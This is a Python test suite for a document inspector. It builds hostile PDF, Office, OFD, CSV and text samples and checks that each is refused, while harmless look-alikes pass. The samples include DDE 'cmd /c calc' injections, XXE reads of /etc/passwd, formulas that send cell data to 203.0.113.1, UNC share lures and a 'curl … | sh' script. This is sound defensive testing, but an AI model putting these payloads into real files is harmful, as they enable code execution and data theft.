"""Further documents that do harm, besides those of ``test_active_documents``: what hides where a first look does not
search. Each is refused; the inspectors are asked here without the process that confines them."""

import struct
import zipfile
from collections.abc import Callable
from io import BytesIO

import pytest
from pikepdf import Array, Dictionary, Name, ObjectStreamMode, Pdf, String

from foundation.errors import Invalid
from foundation.files.inspection import inspect
from tests.factories.documents import (
    OFFICE,
    RELATIONS,
    WORD,
    action,
    annotation,
    field,
    javascript,
    linked,
    office,
    old_document,
    ole,
    opening,
    pdf,
    relation,
)
from tests.strays import Strays

EVIL = "http://203.0.113.1/x"
SHARE = "\\\\203.0.113.1\\x"
PART = "word__media__image1.png"
XXE = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
PROGRAM_CLICK, MACRO_CLICK = 2, 1
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
BOOK_PART, SHOW_PART, PAGES_PART = "xl/workbook.xml", "ppt/presentation.xml", "OFD.xml"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
BOOK = f'<workbook xmlns="{MAIN}"/>'
SHEET = f'<worksheet xmlns="{MAIN}"><sheetData><row><c><f>{{}}</f></c></row></sheetData></worksheet>'
SLIDES = '<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"/>'
MICROSOFT = "http://schemas.microsoft.com/office"


def _root(change: Callable[[Pdf], dict[str, object]]) -> bytes:
    """A PDF whose catalog has these as well."""

    def put(document: Pdf) -> None:
        for key, value in change(document).items():
            document.Root[f"/{key}"] = value

    return pdf(put)


def _visit(address: str = EVIL) -> Dictionary:
    return action("URI", URI=String(address))


def _of_page_visit(document: Pdf) -> None:
    document.pages[0].AA = Dictionary(O=document.make_indirect(_visit()))


def _page_from(document: Pdf) -> None:
    form = document.make_stream(b"", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]))
    form.stream_dict.Ref = Dictionary(F=Dictionary(Type=Name.Filespec, F=String(SHARE)), Page=0)
    document.pages[0].Resources = Dictionary(XObject=Dictionary(X=form))


def _picture_from(document: Pdf) -> None:
    image = document.make_stream(b"\0", Type=Name.XObject, Subtype=Name.Image, Width=1, Height=1)
    image.stream_dict.OPI = Dictionary({"/2.0": Dictionary(F=String(SHARE), Version=2)})
    document.Root.Thing = image


def _hidden_by_update() -> bytes:
    """An older part whose script lies packed, which the newer one does not name any more."""
    whole = pdf(opening(lambda one: one.make_indirect(javascript())), object_stream_mode=ObjectStreamMode.generate)
    return whole + pdf(object_stream_mode=ObjectStreamMode.generate)


def _book(sheet: str | bytes = "", **parts: str | bytes) -> bytes:
    named = {name.replace("__", "/"): content for name, content in parts.items()}
    if sheet:
        named["xl/worksheets/sheet1.xml"] = sheet
    return office(BOOK_PART, content=BOOK, parts=named)


def _formula(text: str, head: str = "") -> bytes:
    return _book(head + SHEET.format(text))


def _word_with(relations: str = "", **parts: str | bytes) -> bytes:
    return office(relations=relations, parts={name.replace("__", "/"): content for name, content in parts.items()})


def _body(inner: str) -> bytes:
    space = f'xmlns:w="{WORD}" xmlns:r="{OFFICE}" xmlns:v="urn:schemas-microsoft-com:vml"'
    return office(content=f"<w:document {space}><w:body>{inner}</w:body></w:document>")


def _of_kind(kind: str, part: str) -> str:
    """A relation inside the file, of a kind of Microsoft's own."""
    return f'<Relationship Id="rId9" Type="{MICROSOFT}/{kind}" Target="{part}"/>'


def _relations(inner: str) -> str:
    return f'<Relationships xmlns="{RELATIONS}">{inner}</Relationships>'


def _main_elsewhere() -> bytes:
    """What Word opens is the part that the file names, not the one of the usual name."""
    parts = {
        "_rels/.rels": _relations(relation("officeDocument", "word/other.dat", is_outside=False)),
        "word/other.dat": field(" DDEAUTO c:\\\\windows\\\\cmd.exe "),
    }
    return office(parts=parts)


def _two_archives() -> bytes:
    first = office(content=field(" DDEAUTO cmd "))
    return first + office()


def _hidden_member() -> bytes:
    """A part that the table of contents does not name, and a repair finds."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("word/vbaProject.bin", ole({"VBA/dir": b"x"}))
        archive.writestr("word/document.xml", f'<w:document xmlns:w="{WORD}"/>')
        archive.filelist.pop(0)
    return out.getvalue()


def _far_program() -> bytes:
    """Its second head stands far behind the first."""
    return b"MZ" + b"\0" * 58 + struct.pack("<I", 6000) + b"\0" * (6000 - 64) + b"PE\0\0" + b"\0" * 200


def _records(*records: tuple[int, bytes]) -> bytes:
    return b"".join(struct.pack("<HH", kind, len(content)) + content for kind, content in records)


def _begin(kind: int) -> tuple[int, bytes]:
    return 0x809, struct.pack("<HHHHII", 0x600, kind, 0, 0, 0, 0)


def _old_book(*records: tuple[int, bytes], **streams: bytes) -> bytes:
    book = _records(_begin(5), *records, (0x0A, b""))
    return ole({"Workbook": book} | {name.replace("__", "/"): content for name, content in streams.items()})


def _sheet_of_macros() -> tuple[int, bytes]:
    return 0x85, struct.pack("<IBBBB", 0, 1, 1, 6, 0) + b"Macro1"


def _old_show(*records: tuple[int, int, bytes]) -> bytes:
    inner = b"".join(struct.pack("<HHI", version, kind, len(content)) + content for version, kind, content in records)
    whole = struct.pack("<HHI", 0x0F, 1000, len(inner)) + inner
    return ole({"PowerPoint Document": whole, "Current User": b"\0" * 64})


def _click(act: int) -> bytes:
    return struct.pack("<HHI", 0, 0x0FF3, 16) + b"\0" * 8 + bytes((act,)) + b"\0" * 7


def _old_word(flags: int = 0, text: bytes = b"") -> bytes:
    head = struct.pack("<HHHHHH", 0xA5EC, 0xC1, 0, 0x804, 0, flags)
    return ole({"WordDocument": (head + text).ljust(4096, b"\0"), "1Table": b"\0" * 4096})


def _pages(actions: str = "", page: str = "", **parts: str | bytes) -> bytes:
    """An OFD of one page."""
    space = 'xmlns:ofd="http://www.ofdspec.org/2016"'
    named: dict[str, str | bytes] = {
        "Doc_0/Document.xml": f"<ofd:Document {space}><ofd:CommonData/>{actions}</ofd:Document>",
        "Doc_0/Pages/Page_0/Content.xml": f"<ofd:Page {space}>{page}</ofd:Page>",
    }
    named |= {name.replace("__", "/"): content for name, content in parts.items()}
    root = f"<ofd:OFD {space}><ofd:DocBody><ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot></ofd:DocBody></ofd:OFD>"
    return office(PAGES_PART, content=root, parts=named)


def _does(inner: str, event: str = "DO") -> str:
    return f'<ofd:Actions><ofd:Action Event="{event}">{inner}</ofd:Action></ofd:Actions>'


PDFS: dict[str, Callable[[], bytes]] = {
    "a page of the web at opening": lambda: pdf(opening(lambda _: _visit())),
    "a page of the web at opening, an object of its own": lambda: pdf(opening(lambda one: one.make_indirect(_visit()))),
    "a page of the web after another action": lambda: pdf(
        opening(lambda one: action("GoTo", D=Array([]), Next=one.make_indirect(_visit())))
    ),
    "a page of the web when a page is shown": lambda: pdf(_of_page_visit),
    "a page of the web when it is closed": lambda: _root(lambda _: {"AA": Dictionary(WC=_visit())}),
    "a page of the web when a field is shown": lambda: pdf(
        lambda one: annotation(one, Subtype=Name.Widget, FT=Name.Tx, T=String("x"), AA=Dictionary(PV=_visit()))
    ),
    "a thread of another file": lambda: pdf(
        lambda one: annotation(one, Subtype=Name.Link, A=action("Thread", F=String(SHARE), D=0))
    ),
    "a page drawn from another file": lambda: pdf(_page_from),
    "a picture drawn from another file": lambda: pdf(_picture_from),
    "a file named at the document": lambda: _root(
        lambda one: {"AF": Array([one.make_indirect(Dictionary(Type=Name.Filespec, FS=Name.URL, F=String(EVIL)))])}
    ),
    "a file named in letters of the world": lambda: _root(
        lambda one: {"Thing": one.make_indirect(Dictionary(Type=Name.Filespec, UF=String(SHARE)))}
    ),
    "an address behind a mark of letters": lambda: pdf(
        lambda one: annotation(
            one, Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String(b"\xef\xbb\xbfjavascript:alert(1)"))
        )
    ),
    "a base that is a share": lambda: _root(lambda _: {"URI": Dictionary(Base=String("\\\\203.0.113.1\\"))}),
    "an act of the program's menu": lambda: pdf(opening(lambda _: action("Named", N=Name("/SaveAs")))),
    "a film in an action": lambda: pdf(opening(lambda _: action("Movie", T=String("x")))),
    "a sound": lambda: pdf(opening(lambda one: action("Sound", Sound=one.make_stream(b"\0", R=8000)))),
    "a way into three dimensions": lambda: pdf(opening(lambda _: action("GoTo3DView", V=Name("/F")))),
    "something that moves, played": lambda: pdf(opening(lambda _: action("RichMediaExecute", CMD=Dictionary()))),
    "a script in a packed older part": _hidden_by_update,
    "a page behind it, and an end behind that": lambda: pdf() + HTML + b"\n%%EOF\n",
    "a form's data, called a document": lambda: (
        b"%FDF-1.2\n1 0 obj\n<</FDF<</JavaScript<</Before(app.alert(1))>>>>>>\nendobj\n%%EOF\n"
    ),
    "a document of XML, called one": lambda: (
        b'<?xml version="1.0"?><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><pdf/></xdp:xdp>'
    ),
}
WORDS: dict[str, Callable[[], bytes]] = {
    "its text in a part of another name": _main_elsewhere,
    "two archives, one behind another": _two_archives,
    "a page behind the archive": lambda: office() + HTML,
    "a part that the table of contents leaves out": _hidden_member,
    "a field that leads to a file": lambda: office(content=field(' HYPERLINK "file:///C:/Windows/System32/calc.exe" ')),
    "a field that leads to a share": lambda: office(content=field(' HYPERLINK "\\\\\\\\203.0.113.1\\\\x" ')),
    "a field that leads to a script": lambda: office(content=field(' HYPERLINK "javascript:alert(1)" ')),
    "a field that is struck out": lambda: _body("<w:p><w:r><w:delInstrText> DDEAUTO cmd </w:delInstrText></w:r></w:p>"),
    "a field that another document is read by": lambda: office(content=field(f' RD "{SHARE}" ')),
    "a field that speaks to the printer": lambda: office(content=field(' PRINT "x" ')),
    "a field of a control": lambda: office(content=field(" CONTROL Forms.HTML:Hidden.1 ")),
    "a field of an embedded program": lambda: office(content=field(" EMBED Package ")),
    "a film from the web": lambda: _body(
        '<wp15:webVideoPr xmlns:wp15="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing" '
        'embeddedHtml="&lt;iframe src=&quot;http://203.0.113.1/&quot;&gt;" h="9" w="9"/>'
    ),
    "an add-in of the web": lambda: _word_with(
        word__webextensions__taskpanes__xml="<x/>",
        **{"_rels__.rels": _relations(_of_kind("2011/relationships/webextensiontaskpanes", "word/panes.xml"))},
    ),
    "buttons of its own, elsewhere": lambda: _word_with(
        x__ui__xml="<x/>",
        **{"_rels__.rels": _relations(_of_kind("2007/relationships/ui/extensibility", "x/ui.xml"))},
    ),
    "letters to many, from a database": lambda: _word_with(
        **{
            "word__settings.xml": (
                f'<w:settings xmlns:w="{WORD}"><w:mailMerge><w:connectString w:val="Provider=x;Data Source={SHARE}"/>'
                "</w:mailMerge></w:settings>"
            )
        }
    ),
    "a picture of the old kind from elsewhere": lambda: _body(f'<v:imagedata src="{EVIL}.png"/>'),
    "a shape that leads to a share": lambda: _body(f'<v:shape href="{SHARE}"/>'),
    "links that begin at a share": lambda: _word_with(
        **{"docProps__app.xml": f"<Properties><HyperlinkBase>{SHARE}</HyperlinkBase></Properties>"}
    ),
    "PostScript": lambda: _word_with(**{"word__media__image1.eps": b"%!PS-Adobe-3.0 EPSF-3.0\n(x) run\n"}),
    "PostScript under another name": lambda: _word_with(**{PART: b"\xc5\xd0\xd3\xc6" + b"\0" * 60}),
    "a program whose second head is far behind": lambda: _word_with(**{PART: _far_program()}),
    "a packed file of RAR": lambda: _word_with(**{PART: b"Rar!\x1a\x07\x01\0" + b"x" * 60}),
    "a packed file of 7-Zip": lambda: _word_with(**{PART: b"7z\xbc\xaf\x27\x1c" + b"x" * 60}),
    "a packed file of Windows": lambda: _word_with(**{PART: b"MSCF\0\0\0\0" + b"x" * 60}),
    "a help file": lambda: _word_with(**{PART: b"ITSF\x03\0\0\0" + b"x" * 60}),
    "a film of Flash": lambda: _word_with(**{PART: b"CWS\x0a" + b"x" * 60}),
    "a file of settings that runs": lambda: _word_with(**{"word__x.settingcontent-ms": b"x"}),
    "a page of rich text cut short": lambda: _word_with(**{"word__x.dat": b"{\\rt0{\\object}}"}),
    "entities in a part without an ending": lambda: _word_with(word__x=XXE),
    "a document with entities inside": lambda: _word_with(
        **{"word__embeddings__x.docx": office(content='<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>')}
    ),
}
BOOKS: dict[str, Callable[[], bytes]] = {
    "a formula in numbers for letters": lambda: _formula("&#87;EBSERVICE(&quot;http://203.0.113.1/&quot;)"),
    "a formula cut by a note": lambda: _formula("WEB<!-- -->SERVICE(&quot;http://203.0.113.1/&quot;)"),
    "a formula in a section of letters": lambda: _formula('<![CDATA[WEBSERVICE("http://203.0.113.1/")]]>'),
    "a formula in other letters": lambda: _formula(
        "+AFcARQBCAFMARQBSAFYASQBDAEU-(1)", '<?xml version="1.0" encoding="UTF-7"?>'
    ),
    "a picture by a formula": lambda: _formula("_xlfn.IMAGE(&quot;http://203.0.113.1/x.png&quot;)"),
    "a link by a formula to a share": lambda: _formula("HYPERLINK(&quot;\\\\203.0.113.1\\x&quot;)"),
    "a link by a formula that sends cells": lambda: _formula("HYPERLINK(&quot;http://203.0.113.1/?&quot;&amp;A1)"),
    "a name that fetches": lambda: office(
        BOOK_PART,
        content=f'<workbook xmlns="{MAIN}"><definedNames><definedName name="x">WEBSERVICE("http://203.0.113.1/")</definedName></definedNames></workbook>',
    ),
    "a colour that depends on what is fetched": lambda: _book(
        f'<worksheet xmlns="{MAIN}"><conditionalFormatting><cfRule><formula>WEBSERVICE("http://203.0.113.1/")</formula></cfRule></conditionalFormatting></worksheet>'
    ),
    "connections, elsewhere": lambda: office(
        BOOK_PART,
        content=BOOK,
        relations=relation("connections", "c.xml", is_outside=False),
        parts={"xl/c.xml": "<x/>"},
    ),
    "a query, elsewhere": lambda: office(
        BOOK_PART, content=BOOK, relations=relation("queryTable", "q.xml", is_outside=False)
    ),
    "queries of the new kind": lambda: _book(
        customXml__item1__xml="<x/>",
        **{"customXml__item1.xml": '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>'},
    ),
    "a sheet in a part of another ending": lambda: _book(
        **{"xl__worksheets__sheet1.dat": SHEET.format(f'WEBSERVICE("{EVIL}")')}
    ),
    "entities in a sheet in letters of mainframes": lambda: _book(
        '<?xml version="1.0" encoding="cp037"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'.encode("cp037")
    ),
    "a data server": lambda: _formula("RTD(&quot;x.y&quot;,,&quot;z&quot;)"),
}
SHOWS: dict[str, Callable[[], bytes]] = {
    "a link to a program": lambda: office(
        SHOW_PART, content=SLIDES, relations=relation("hyperlink", "file:///C:/x.exe")
    ),
    "a film of the web": lambda: office(
        SHOW_PART,
        content=SLIDES,
        parts={"ppt/slides/slide1.xml": '<a><p15:webVideoPr xmlns:p15="x" embeddedHtml="&lt;iframe&gt;"/></a>'},
    ),
    "a sound from a share": lambda: office(SHOW_PART, content=SLIDES, relations=relation("audio", SHARE)),
    "a control": lambda: office(SHOW_PART, content=SLIDES, relations=relation("control", "x.xml", is_outside=False)),
    "a macro at a touch": lambda: office(
        SHOW_PART,
        content=SLIDES,
        parts={"ppt/slides/slide1.xml": '<a><hlinkHover action="ppaction://macro?name=x"/></a>'},
    ),
}
OLD_BOOKS: dict[str, Callable[[], bytes]] = {
    "macros of Excel 4 behind a megabyte": lambda: _old_book(*[(0x3C, b"\0" * 8000)] * 140, _sheet_of_macros()),
    "a sheet of macros alone": lambda: ole(
        {"Workbook": _records((0x809, struct.pack("<HHHHII", 0x600, 0x40, 0, 0, 0, 0)), (0x0A, b""))}
    ),
    "the password that nobody is asked for": lambda: _old_book((0x2F, b"\x01\0\x01\0\x01\0" + b"x" * 48)),
    "DDE": lambda: _old_book((0x1AE, struct.pack("<HHB", 0, 12, 0) + b"cmd\x03/c calc!A")),
    "a link to another workbook": lambda: _old_book((0x1AE, struct.pack("<HHB", 1, 20, 0) + b"\x01@x\x03x.xls")),
    "a query of a database": lambda: _old_book((0x876, b"\0" * 40)),
    "an object": lambda: _old_book(MBD0001__x=b"x"),
    "an object that is linked": lambda: _old_book(LNK0001__x=b"x"),
    "a moniker": lambda: _old_book(**{"x__\x01Ole": b"\x01\0\0\x02"}),
    "controls": lambda: _old_book(Ctls=b"x"),
}
OLD_WORDS: dict[str, Callable[[], bytes]] = {
    "a password of Word": lambda: _old_word(0x0100),
    "a field that runs a macro": lambda: _old_word(0, b"\x13 MACROBUTTON x y\x14\x15"),
    "a field in numbers": lambda: _old_word(0, b"\x13 QUOTE 68 68 69\x14\x15"),
    "a field of a database": lambda: _old_word(0, b"\x13 DATABASE \\d x\x14\x15"),
    "a field that leads to a file": lambda: _old_word(0, b'\x13 HYPERLINK "file:///C:/x.exe"\x14\x15'),
    "a control": lambda: old_document(**{"x__\x03OCXNAME": b"x"}),
}
OLD_SHOWS: dict[str, Callable[[], bytes]] = {
    "a click that starts a program": lambda: _old_show(
        (0x0F, 0x0FF2, struct.pack("<HHI", 0, 0x0FF3, 16) + b"\0" * 8 + b"\x02" + b"\0" * 7)
    ),
    "a click that runs a macro": lambda: _old_show(
        (0x0F, 0x0FF2, struct.pack("<HHI", 0, 0x0FF3, 16) + b"\0" * 8 + b"\x01" + b"\0" * 7)
    ),
    "an object that is linked": lambda: _old_show((0x0F, 0x0FCE, b"")),
    "an object inside": lambda: _old_show((0x0F, 0x0FCC, b"")),
    "a control": lambda: _old_show((0x0F, 0x0FEE, b"")),
}
OFDS: dict[str, Callable[[], bytes]] = {
    "a page of the web at opening": lambda: _pages(_does(f'<ofd:URI URI="{EVIL}"/>')),
    "a page of the web when a page is shown": lambda: _pages(page=_does(f'<ofd:URI URI="{EVIL}"/>', "PO")),
    "a program at a click": lambda: _pages(page=_does('<ofd:URI URI="file:///C:/x.exe"/>', "CLICK")),
    "a script at a click": lambda: _pages(page=_does('<ofd:URI URI="javascript:alert(1)"/>', "CLICK")),
    "a base that is a share": lambda: _pages(page=_does(f'<ofd:URI URI="x" Base="{SHARE}"/>', "CLICK")),
    "an attachment that opens": lambda: _pages(_does('<ofd:GotoA AttachID="1" NewWindow="true"/>')),
    "a film": lambda: _pages(_does('<ofd:Movie ResourceID="1" Operator="Play"/>')),
    "a sound": lambda: _pages(_does('<ofd:Sound ResourceID="1"/>')),
    "a picture from elsewhere": lambda: _pages(
        Doc_0__Res__xml="<x/>",
        **{
            "Doc_0__PublicRes.xml": f'<ofd:Res xmlns:ofd="http://www.ofdspec.org/2016"><ofd:MediaFile>{SHARE}</ofd:MediaFile></ofd:Res>'
        },
    ),
    "a program attached": lambda: _pages(**{"Doc_0__Attachs__x.exe": b"x"}),
    "a program attached under another name": lambda: _pages(**{"Doc_0__Attachs__x.dat": _far_program()}),
    "entities": lambda: _pages(
        **{"Doc_0__Annots.xml": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'}
    ),
}
TABLES: dict[str, Callable[[], bytes]] = {
    "a table of symbols": lambda: b'ID;P\nO;E\nNN;NAuto_open;ER101C1;KOut Flank;F\nC;X1;Y101;EEXEC("calc")\nE\n',
    "DDE behind two cells": lambda: b"a,b\n\"=SUM(1,1)*cmd|'/c calc'!A0\",1\n",
    "DDE behind a long sum": lambda: b"a\n=" + b"1+" * 200 + b"cmd|'/c calc'!A0\n",
    "DDE behind a wide sign": "a\n＝cmd|'/c calc'!A0\n".encode,
    "DDE behind a wide sign, in letters of China": lambda: "a\n＝cmd|'/c calc'!A0\n".encode("gb18030"),
    "DDE behind an unseen sign": "a\n\u200b=cmd|'/c calc'!A0\n".encode,
    "a picture by a formula": lambda: b'a\n"=IMAGE(""http://203.0.113.1/x.png"")"\n',
    "a formula that fetches, cut over two lines": lambda: b'a\n"=1+\nWEBSERVICE(""http://203.0.113.1/"")"\n',
}
TEXTS: dict[str, Callable[[], bytes]] = {
    "rich text cut short": lambda: b"{\\rt0{\\object\\objemb}}",
    "a letter with a page": lambda: b"From: x\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + HTML,
    "PostScript": lambda: b"%!PS-Adobe-3.0\n(x) run\n",
    "a page behind a note": lambda: b"<!-- x -->" + HTML,
    "a script of the shell": lambda: b"#!/bin/sh\ncurl http://203.0.113.1/ | sh\n",
    "a script of Windows": lambda: b"<job><script language='JScript'>x</script></job>",
}
KINDS: dict[str, dict[str, Callable[[], bytes]]] = {
    "pdf": PDFS,
    "docx": WORDS,
    "xlsx": BOOKS,
    "pptx": SHOWS,
    "xls": OLD_BOOKS,
    "doc": OLD_WORDS,
    "ppt": OLD_SHOWS,
    "ofd": OFDS,
    "csv": TABLES,
    "txt": TEXTS,
}


def _with_field(text: str) -> bytes:
    return office(content=field(text))


def _turning(document: Pdf) -> None:
    document.Root.OpenAction = Array([document.pages[0].obj, Name.Fit])
    annotation(document, Subtype=Name.Link, A=action("Named", N=Name.NextPage, Next=action("GoTo", D=Array([]))))


def _dialled(document: Pdf) -> None:
    """A page that leads to the web at a click, and is the place at which the document opens."""
    linked("https://www.gov.cn/")(document)
    document.Root.OpenAction = Array([document.pages[0].obj, Name.Fit])


def _pdf_added_to() -> bytes:
    """As programs write it that sign: further objects behind the end."""
    whole = pdf(object_stream_mode=ObjectStreamMode.disable)
    place = whole.rindex(b"startxref")
    before = whole[place:].split()[1]
    update = len(whole)
    added = b"99 0 obj\n<</Type/Metadata>>\nendobj\n"
    table = b"xref\n99 1\n%010d 00000 n \n" % update
    root = whole[whole.rindex(b"trailer") : place]
    trailer = root.rstrip().removesuffix(b">>") + b"/Prev " + before + b">>\n"
    return whole + added + table + trailer + b"startxref\n%d\n%%%%EOF\n" % (update + len(added))


# what looks like the above and harms nobody
HONEST: dict[str, tuple[str, Callable[[], bytes]]] = {
    "a PDF that turns its pages": ("pdf", lambda: pdf(_turning)),
    "a PDF that opens at a page with a link": ("pdf", lambda: pdf(_dialled)),
    "a PDF that was added to": ("pdf", _pdf_added_to),
    "a document with links by fields": (
        "docx",
        lambda: _with_field(' HYPERLINK "https://www.gov.cn/a" \\o "国务院" '),
    ),
    "a document with a table of contents": ("docx", lambda: _with_field(' HYPERLINK \\l "_Toc1" ')),
    "a document with the day of printing": ("docx", lambda: _with_field(" PRINTDATE ")),
    "a workbook with links": (
        "xlsx",
        lambda: _formula("HYPERLINK(&quot;#&quot;&amp;A1&amp;&quot;!A1&quot;,&quot;x&quot;)"),
    ),
    "a workbook with a link to the web": ("xlsx", lambda: _formula("HYPERLINK(&quot;https://www.gov.cn/&quot;)")),
    "a workbook whose words look like a call": (
        "xlsx",
        lambda: _formula("IF(A1=&quot;a|b&quot;,&quot;c!&quot;,&quot;&#10;&quot;)"),
    ),
    "an old workbook with functions of its own": ("xls", lambda: _old_book((0x1AE, struct.pack("<HH", 3, 0x0401)))),
    "an old presentation": ("ppt", lambda: _old_show((0x0F, 0x0FF2, b""), (0, 0x0FA0, "标题".encode("utf-16-le")))),
    "an OFD that leads to a page at a click": (
        "ofd",
        lambda: _pages(page=_does('<ofd:URI URI="https://www.gov.cn/"/>', "CLICK")),
    ),
    "a table of notes": ("csv", 'a,b\n1,-5|见附件！\n2,"=SUM(A1,A2)"\n3,+86 138|张三！\n'.encode),
    "a table whose first heading is ID": ("csv", "ID,姓名\nA1,张三\n".encode),
    "a text of points": ("txt", "- 第一步：登录\n- 第二步：填表（见 A|B 两表）！\n".encode),
}  # fmt: skip


def _is_refused(ending: str, content: bytes) -> bool:
    try:
        for _ in inspect(BytesIO(content), ending=ending):
            pass
    except Invalid:
        return True
    return False


# what oletools says of its own parser, and pikepdf of fields that the samples do not list
@pytest.mark.filterwarnings("ignore::DeprecationWarning", "ignore:This document has 1 form widget")
class TestHiddenHarm:
    def test_is_refused_wherever_it_hides(self) -> None:
        with Strays(least=115) as strays:
            for ending, made in KINDS.items():
                for what, make in made.items():
                    with strays.of(f"{ending}: {what}"):
                        assert _is_refused(ending, make())

    def test_is_seen_in_nothing_that_only_looks_like_it(self) -> None:
        with Strays(least=15) as strays:
            for what, (ending, make) in HONEST.items():
                with strays.of(what):
                    assert not _is_refused(ending, make())
